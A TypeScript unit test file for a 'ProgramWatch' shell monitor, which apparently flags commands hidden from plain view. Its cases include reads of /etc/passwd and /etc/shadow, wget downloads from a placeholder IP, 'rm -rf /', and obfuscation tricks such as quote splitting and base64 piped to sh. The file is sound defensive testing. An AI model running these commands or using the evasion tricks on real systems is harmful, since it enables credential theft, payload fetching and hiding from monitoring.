import { describe, expect, it } from 'vitest';
import { ProgramWatch } from './program-watch.ts';

function told(line: string, ...programs: string[]): string[] {
  const watch = new ProgramWatch();
  for (const part of line.split('\n')) watch.typed(part);
  return programs.filter((program) => watch.isNews(program.split(' ')));
}

describe('programs worth telling', () => {
  it.each([
    ['cat /etc/passwd;  uname -a', 'cat /etc/passwd', 'uname -a'],
    ['grep -c "model name" /proc/cpuinfo', 'grep -c model name /proc/cpuinfo'],
    ['for i in 1; do\nwget http://192.0.2.1/a\ndone', 'wget http://192.0.2.1/a'],
  ])('are not those that %j shows', (line, ...programs) => {
    expect(told(line, ...programs)).toEqual([]);
  });

  it.each([
    ['a=sha; cat /etc/${a}dow', 'cat /etc/shadow'],
    ['w""get http://192.0.2.1/a', 'wget http://192.0.2.1/a'],
    ["'w'get http://192.0.2.1/a", 'wget http://192.0.2.1/a'],
    ['\\wget http://192.0.2.1/a', 'wget http://192.0.2.1/a'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2EK | base64 -d | sh', 'wget http://192.0.2.1/a'],
    // What is written is not what runs.
    ['$w http://192.0.2.1/a # wget http://192.0.2.1/a', 'wget http://192.0.2.1/a'],
    ['x', 'rm -rf /'],
  ])('are those that %j hides', (line, program) => {
    expect(told(line, program)).toEqual([program]);
  });

  it('are told once a line, and a few of each name, so that a loop leaves room for what follows it', () => {
    const watch = new ProgramWatch();
    watch.typed('for i in $(seq 99); do true $i; done; $x');
    const loop = Array.from({ length: 99 }, (_, i) => watch.isNews(['true', String(i)]));
    expect(loop.filter(Boolean)).toHaveLength(8);
    expect([watch.isNews(['wget', 'x']), watch.isNews(['wget', 'x'])]).toEqual([true, false]);
    const many = Array.from({ length: 99 }, (_, i) => watch.isNews([`program${i}`]));
    expect(many.filter(Boolean)).toHaveLength(64 - 9);
    watch.typed('$y');
    expect(watch.isNews(['wget', 'x'])).toBe(true);
  });
});
